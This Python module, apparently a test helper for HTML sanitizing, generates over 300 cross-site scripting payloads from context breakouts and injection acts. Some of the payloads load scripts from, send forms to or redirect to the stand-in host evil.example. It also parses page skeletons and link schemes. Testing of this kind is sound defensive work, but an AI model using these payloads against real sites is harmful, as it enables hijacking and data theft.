"""What somebody would write into a field to have a page do their bidding: 300 texts and more."""

from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

# How a text leaves the place where it stands...
BREAKOUTS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</style>",
    "</script>",
    "</bdi></p>",
    "--></noscript>",
    "]]>",
    '\\">',
    "{{ x }}{% x %}",
)
# ... and what it does then.
ACTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=csrf>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<object data=//evil.example>",
    " onmouseover=alert(1) x=",
    " style=background:url(//evil.example) ",
    " autofocus onfocus=alert(1) ",
    "javascript:alert(1)",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<plaintext><listing><xmp>",
    "<button formaction=javascript:alert(1)>x</button>",
)
PAYLOADS = tuple(before + act for before, act in product(BREAKOUTS, ACTS))
# What links may lead to, and what is inside a mail.
SCHEMES = {"", "http", "https", "cid"}
LINKS = ("href", "src", "action", "formaction", "data", "poster", "xlink:href")
Skeleton = list[tuple[str, tuple[str, ...]]]


class _Bones(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: Skeleton = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.links += [value or "" for name, value in attrs if name in LINKS]

    def handle_endtag(self, tag: str) -> None:
        self.found.append(("/" + tag, ()))

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", ()))


def bones(page: str) -> Skeleton:
    """Every element with the names of its attributes: what a text must not be able to change."""
    return _read(page).found


def links(page: str) -> list[str]:
    """Whatever the page leads to or loads, by scheme."""
    return [urlsplit(link.strip()).scheme.lower() for link in _read(page).links]


def _read(page: str) -> _Bones:
    found = _Bones()
    found.feed(page)
    found.close()
    return found
